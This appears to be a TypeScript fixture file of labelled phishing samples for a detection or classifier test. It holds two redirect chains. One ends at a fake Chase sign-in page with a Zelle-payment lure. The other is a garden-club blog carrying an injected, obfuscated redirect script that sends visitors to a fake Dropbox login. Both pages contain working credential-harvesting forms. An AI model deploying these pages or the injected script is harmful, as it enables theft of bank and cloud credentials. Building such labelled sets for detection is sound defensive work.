import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';

export const entries: Entry[] = [
{
  id: 'a-redir-302-tracker-chase',
  label: 'phishing',
  kind: 'redirect-chain',
  url: 'https://t.mkt-mailstat.com/c/0f9a3e1d?e=7712&u=aHR0cHM6Ly9z',
  routes: {
    't.mkt-mailstat.com/c/0f9a3e1d': redirectRoute(302, 'https://rebrand-lnk.click/Xk92pa'),
    'rebrand-lnk.click/Xk92pa': redirectRoute(301, 'https://chase-secure-message.center-verify.com/web/auth/?ref=alert'),
    'chase-secure-message.center-verify.com/web/auth/': htmlRoute(`<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Chase Online - Secure Message</title>
<style>
body{margin:0;font-family:"Open Sans",Arial,sans-serif;background:#f3f5f7}
.hd{background:#117aca;height:58px;display:flex;align-items:center;justify-content:center}.hd img{height:26px}
.bx{max-width:400px;margin:36px auto;background:#fff;padding:30px;border-radius:4px}
.msg{background:#fff8e5;border-left:4px solid #f2a900;padding:10px 12px;font-size:14px;margin-bottom:16px}
input{width:100%;height:42px;border:0;border-bottom:1px solid #8f8f8f;font-size:16px;margin-bottom:18px}
button{width:100%;height:44px;background:#117aca;color:#fff;border:0;border-radius:4px;font-size:16px}
</style></head>
<body>
<div class="hd"><img src="/web/auth/img/chase-white.svg" alt="Chase"></div>
<div class="bx">
<div class="msg">You have 1 unread secure message regarding a recent Zelle® payment of $1,250.00. Sign in to review or cancel.</div>
<form method="post" action="/web/auth/logon.php">
<input name="userId" placeholder="Username">
<input name="password" type="password" placeholder="Password">
<button>Sign in</button>
</form>
</div>
</body></html>`),
  },
},
{
  id: 'a-redir-wp-redirect-to-dropbox',
  label: 'phishing',
  kind: 'redirect-chain',
  url: 'https://blog.gruene-gaerten-verein.de/?s=&redirect_to=fb71',
  routes: {
    'blog.gruene-gaerten-verein.de/': htmlRoute(`<!DOCTYPE html>
<html lang="de-DE">
<head>
<meta charset="UTF-8">
<title>Grüne Gärten e.V. – Gemeinschaftsgarten im Viertel</title>
<link rel="stylesheet" href="/wp-content/themes/twentytwenty/style.css?ver=2.1">
<script>
;(function(){var q=location.search;if(q.indexOf('redirect_to=fb71')>-1){var u='https:/'+'/dropbox-filetransfer.secure-file-access.com/'+'s/fb71/Scan_0041.pdf';location.replace(u);}})();
</script>
</head>
<body class="home blog">
<header><h1><a href="/">Grüne Gärten e.V.</a></h1><p>Gemeinschaftsgarten im Viertel</p></header>
<main><article><h2>Saisonstart 2025: Jungpflanzenmarkt am 26. April</h2><p>Auch dieses Jahr tauschen und verkaufen wir Tomaten-, Paprika- und Kräuterjungpflanzen. Kuchenspenden sind willkommen!</p></article></main>
<footer>© 2025 Grüne Gärten e.V. · Impressum · Datenschutz</footer>
</body>
</html>`),
    'dropbox-filetransfer.secure-file-access.com/s/fb71/Scan_0041.pdf': htmlRoute(`<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Scan_0041.pdf - Dropbox</title>
<style>body{margin:0;font-family:Arial,sans-serif;background:#f7f5f2}.t{height:56px;background:#fff;border-bottom:1px solid #e6e4e1;display:flex;align-items:center;padding:0 20px}.w{max-width:380px;margin:50px auto;background:#fff;padding:30px;border-radius:6px}input{width:100%;height:40px;margin:6px 0 12px;border:1px solid #bbb;border-radius:4px;padding:0 10px;box-sizing:border-box}button{width:100%;height:42px;background:#0061fe;color:#fff;border:0;border-radius:4px}</style></head>
<body><div class="t"><img src="/s/fb71/db.svg" alt="Dropbox" height="28"></div>
<div class="w"><h3>Sign in to view Scan_0041.pdf</h3><form method="post" action="/s/fb71/login.php"><input name="email" placeholder="Email"><input name="password" type="password" placeholder="Password"><button>Sign in</button></form><p style="font-size:12px;color:#666">or <a href="#">Sign in with Google</a></p></div></body></html>`),
  },
},
];
